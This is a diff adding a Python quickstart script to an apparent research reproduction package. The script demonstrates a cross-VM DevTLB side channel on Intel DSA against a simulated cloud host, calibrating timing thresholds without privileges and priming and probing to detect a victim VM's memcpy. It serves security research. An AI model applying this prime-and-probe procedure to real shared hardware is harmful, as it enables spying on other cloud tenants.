@@ -1,0 +1,57 @@
+#!/usr/bin/env python3
+"""Quickstart: observe a victim VM's DSA activity from another VM.
+
+Builds the paper's E1 topology (attacker and victim in separate VMs,
+separate work queues, one shared DSA engine), calibrates the DevTLB
+hit/miss threshold without privileges, and demonstrates that a single
+victim memcpy — in a different VM, under PASID isolation — is visible to
+the attacker as a DevTLB eviction.
+
+Run:  python examples/quickstart.py
+"""
+
+from repro.core.devtlb_attack import DsaDevTlbAttack
+from repro.dsa.descriptor import make_memcpy
+from repro.virt.system import AttackTopology, CloudSystem
+
+
+def main() -> None:
+    # One physical host; attacker and victim VMs with portals onto
+    # separate work queues bound to the same engine.
+    system = CloudSystem(seed=42)
+    handles = system.setup_topology(AttackTopology.E1_SEPARATE_WQ_SHARED_ENGINE)
+    attacker, victim = handles.attacker, handles.victim
+    print(f"attacker PASID {attacker.pasid} (VM '{attacker.vm_name}'), "
+          f"victim PASID {victim.pasid} (VM '{victim.vm_name}')")
+
+    # Unprivileged threshold calibration (Fig. 4's 600-900 cycle band).
+    attack = DsaDevTlbAttack(attacker, wq_id=handles.attacker_wq)
+    calibration = attack.calibrate(samples=100)
+    print(f"calibrated: hit ~{calibration.hit_mean:.0f} cycles, "
+          f"miss ~{calibration.miss_mean:.0f} cycles, "
+          f"threshold {calibration.threshold} cycles")
+
+    # Prime, stay idle — a quiet engine keeps the entry.
+    attack.prime()
+    quiet = attack.probe()
+    print(f"quiet window:  probe {quiet.latency_cycles} cycles "
+          f"-> evicted={quiet.evicted}")
+
+    # The victim copies a buffer through the DSA in its own VM.
+    src = victim.buffer(8192)
+    dst = victim.buffer(8192)
+    comp = victim.comp_record()
+    victim.write(src, b"sensitive" * 128)
+    victim.portal(handles.victim_wq).submit_wait(
+        make_memcpy(victim.pasid, src, dst, 1152, comp)
+    )
+
+    busy = attack.probe()
+    print(f"victim active: probe {busy.latency_cycles} cycles "
+          f"-> evicted={busy.evicted}")
+    assert busy.evicted and not quiet.evicted
+    print("cross-VM DSA activity observed despite VT-d PASID isolation.")
+
+
+if __name__ == "__main__":
+    main()
